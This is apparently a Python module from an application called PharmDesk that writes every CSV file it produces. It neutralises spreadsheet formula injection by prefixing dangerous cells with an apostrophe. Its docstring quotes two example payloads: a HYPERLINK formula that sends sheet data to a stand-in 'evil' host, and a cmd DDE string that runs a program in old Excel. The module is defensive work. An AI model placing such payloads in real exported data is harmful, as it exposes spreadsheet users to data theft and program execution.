"""The one CSV writer: every CSV PharmDesk writes (campaign audiences, the audit log,
import reports) goes through here, so no cell can run as a spreadsheet formula.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some programs, a tab or carriage return before one) as a formula: a customer named
``=HYPERLINK("http://evil/?"&A1)`` would send the sheet's data away when clicked, and
``+cmd|' /C calc'!A0`` runs a program in old Excel. Each such cell is written with a
leading ``'``, which spreadsheet programs show as text and do not display.

Files are UTF-8 with a byte-order mark (so Excel shows ₦ and accented names as written)
and are written privately and atomically (``store.files.write_file_atomic``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any, TextIO

from pharmdesk.store.files import write_file_atomic

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ENCODING = "utf-8-sig"

Row = Sequence[Any]


def safe_cell(value: Any) -> str:
    """The cell as text a spreadsheet shows and never runs (None is empty)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _write_rows(handle: TextIO, header: Row, rows: Iterable[Row]) -> None:
    writer = csv.writer(handle)
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])


def csv_bytes(header: Row, rows: Iterable[Row]) -> bytes:
    """The whole file in memory (small exports a dialog writes in one go)."""
    buffer = io.StringIO(newline="")
    _write_rows(buffer, header, rows)
    return buffer.getvalue().encode(ENCODING)


def write_csv(path: Path, header: Row, rows: Iterable[Row], *, replace: bool = True) -> None:
    """Stream the rows into a private temp file beside ``path``, then into place."""

    def fill(tmp: Path) -> None:
        with tmp.open("w", encoding=ENCODING, newline="") as handle:
            _write_rows(handle, header, rows)

    write_file_atomic(path, fill, replace=replace)
